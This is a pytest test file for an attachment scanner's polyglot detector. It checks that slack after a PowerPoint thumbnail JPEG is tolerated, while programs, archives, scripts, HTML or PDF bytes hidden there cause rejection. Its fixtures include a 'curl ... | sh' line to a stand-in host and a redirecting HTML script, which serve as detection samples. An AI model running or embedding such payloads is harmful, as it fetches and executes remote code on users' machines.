"""Precision: the slack after an Office package's thumbnail is structure, not a polyglot.

PowerPoint writes docProps/thumbnail.jpeg from a buffer of whole KiB; what follows the End Of
Image marker is zeros or leftover memory (puremagic's test.pptx: 653 bytes of a 2,048-byte
part), which nothing reads. It is searched like any part a reader skips: the same place
carrying a program, an archive, a PDF, a script or an HTML page stays POLYGLOT, and so do
bytes after a thumbnail that is not built that way.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from PIL import Image

from attachguard.clamav.client import ClamdClient
from attachguard.codes import FindingCode
from attachguard.engines.base import Item, Result
from attachguard.engines.polyglot import PolyglotEngine
from attachguard.formats.jpeg import jpeg_end
from attachguard.pipeline import Scanner
from attachguard.policy import Policy, load_policy
from attachguard.report import FileType, Status
from attachguard.scanner import build_scanner
from support.realworld_data import SOURCES, CorpusUnavailable, realworld_corpus

JPEG = FileType("jpeg", "image/jpeg", "image")
THUMBNAIL = "docProps/thumbnail.jpeg"
REAL_DECK = "puremagic/test/resources/office/test.pptx"
CLAM_EXE = Path("/usr/share/clamav-testfiles/clam.exe")
CONTEXT = load_policy().context()


def picture(size: tuple[int, int] = (64, 48)) -> bytes:
    img = Image.new("RGB", size, (30, 90, 160))
    out = io.BytesIO()
    img.save(out, "JPEG", quality=70)
    return out.getvalue()


def leftovers(count: int, seed: int = 7) -> bytes:
    """Bytes like a reused buffer's: a repeated pointer, small integers, no file."""
    rng = random.Random(seed)
    words = [b"\x57\x98\xc5\x0e"] * 40 + [struct.pack("<I", rng.randrange(1 << 20))]
    out = b"".join(rng.choice(words) for _ in range(count // 4 + 1))
    return out[:count]


def in_buffer(image: bytes, slack: bytes, block: int = 1024) -> bytes:
    """``image`` then ``slack``, then leftovers up to a whole number of ``block`` bytes."""
    data = image + slack
    return data + leftovers(-len(data) % block, seed=len(data))


def pe_header() -> bytes:
    """A Windows program's headers: "MZ", e_lfanew at 0x3C, "PE\\0\\0" where it points."""
    header = bytearray(b"MZ" + b"\x90" * 0x7E)
    header[0x3C:0x40] = struct.pack("<I", 0x80)
    return bytes(header) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 18


def small_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("run.js", "WScript.Echo(1)")
    return out.getvalue()


HOSTILE = {
    "program": (pe_header(), "Windows program"),
    "zip": (small_zip(), "ZIP archive"),
    "script": (b"#!/bin/sh\ncurl -s http://x.invalid/a | sh\n", "script"),
    "html": (b"<html><body><script>location='http://x.invalid'</script></body></html>", "HTML"),
    "pdf": (b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n", "PDF document"),
    "elf": (b"\x7fELF\x02\x01\x01" + b"\x00" * 57, "Linux program"),
}


def scan(data: bytes, name: str = THUMBNAIL, depth: int = 1) -> Result:
    return PolyglotEngine().scan(Item(name, data, JPEG, depth), CONTEXT)


def messages(result: Result) -> list[str]:
    assert all(f.code is FindingCode.POLYGLOT for f in result.findings)
    return [f.message for f in result.findings]


# -- the structure, from the real deck and generated ----------------------------------------


@pytest.fixture(scope="module")
def real_deck() -> bytes:
    source = next(s for s in SOURCES if s.name == "puremagic")
    try:
        files = realworld_corpus((source,))
    except CorpusUnavailable as exc:
        pytest.skip(str(exc))
    return next(f for f in files if f.id == REAL_DECK).path.read_bytes()


def thumbnail_of(deck: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(deck)) as package:
        return package.read(THUMBNAIL)


def test_the_real_thumbnail_is_a_jpeg_in_a_2_kib_buffer(real_deck: bytes) -> None:
    thumbnail = thumbnail_of(real_deck)
    end = jpeg_end(thumbnail)
    assert (len(thumbnail), end) == (2048, 1395)
    assert thumbnail[end:].strip(b"\x00")  # leftover memory, not padding
    assert scan(thumbnail).findings == []


@pytest.mark.parametrize("extra", [0, 1000, 2900])
def test_leftovers_to_a_whole_kib_are_not_hidden_data(extra: int) -> None:
    image = picture()
    data = in_buffer(image, leftovers(extra, seed=extra))
    assert len(data) % 1024 == 0
    assert len(data) - len(image) <= 4096
    assert scan(data).findings == []


# At the start of the slack, and after leftovers (not a script: "#!" runs only as byte 0).
PLACES = [(kind, 0) for kind in sorted(HOSTILE)] + [
    (k, 200) for k in sorted(HOSTILE) if k != "script"
]


@pytest.mark.parametrize(("kind", "lead"), PLACES)
def test_a_payload_in_the_slack_is_a_polyglot(kind: str, lead: int) -> None:
    payload, what = HOSTILE[kind]
    image = picture()
    data = in_buffer(image, leftovers(lead, seed=lead) + payload)
    found = messages(scan(data))
    assert len(found) == 1
    assert found[0].startswith(what)
    assert found[0].endswith("the JPEG image")  # "after the end of", or "inside"


@pytest.mark.skipif(not CLAM_EXE.exists(), reason="clamav-testfiles not installed")
def test_a_real_program_in_the_slack_is_a_polyglot() -> None:
    data = in_buffer(picture(), leftovers(64) + CLAM_EXE.read_bytes())
    assert messages(scan(data)) == ["Windows program hidden after the end of the JPEG image"]


def test_slack_not_ending_on_a_kib_boundary_is_hidden_data() -> None:
    image = picture()
    data = in_buffer(image, b"") + leftovers(100)
    assert messages(scan(data)) == [
        f"{len(data) - len(image):,} bytes of data hidden after the end of the JPEG image"
    ]


def test_more_slack_than_a_buffer_leaves_is_hidden_data() -> None:
    image = picture()
    data = in_buffer(image, leftovers(5000))
    assert len(data) - len(image) > 4096
    assert messages(scan(data)) == [
        f"{len(data) - len(image):,} bytes of data hidden after the end of the JPEG image"
    ]


@pytest.mark.parametrize(
    ("name", "depth"),
    [(THUMBNAIL, 0), ("thumbnail.jpeg", 1), ("xl/media/image1.jpeg", 1), ("x/" + THUMBNAIL, 1)],
)
def test_only_a_package_thumbnail_has_buffer_slack(name: str, depth: int) -> None:
    image = picture()
    data = in_buffer(image, leftovers(300))
    assert messages(scan(data, name, depth)) == [
        f"{len(data) - len(image):,} bytes of data hidden after the end of the JPEG image"
    ]


# -- the whole scanner on the real deck and on hostile copies of it ---------------------------


@pytest.fixture(scope="module")
def scanner(policy: Policy, clamd_client: ClamdClient) -> Iterator[Scanner]:
    with build_scanner(policy, clamd_client) as scanner:
        yield scanner


def with_thumbnail(deck: bytes, thumbnail: bytes) -> bytes:
    """The deck with its thumbnail part replaced, every other member as it was."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(deck)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = thumbnail if info.filename == THUMBNAIL else src.read(info)
            dst.writestr(info, data, compress_type=info.compress_type)
    return out.getvalue()


@pytest.mark.integration
def test_the_real_deck_is_approved(real_deck: bytes, scanner: Scanner) -> None:
    report = scanner.scan(real_deck, "test.pptx")
    assert report.status is Status.APPROVED, report.reasons


@pytest.mark.integration
@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_the_real_deck_with_a_payload_in_its_thumbnail_slack_is_rejected(
    real_deck: bytes, scanner: Scanner, kind: str
) -> None:
    thumbnail = thumbnail_of(real_deck)
    end = jpeg_end(thumbnail)
    assert end is not None
    payload, what = HOSTILE[kind]
    slack = thumbnail[end:]
    hostile = thumbnail[:end] + payload + slack[len(payload) :]
    assert len(hostile) == len(thumbnail)  # the same 2 KiB buffer, the payload in its slack
    report = scanner.scan(with_thumbnail(real_deck, hostile), "test.pptx")
    assert report.status is Status.REJECTED
    assert "POLYGLOT" in report.rejecting_codes
    assert any(what in reason and THUMBNAIL in reason for reason in report.reasons)
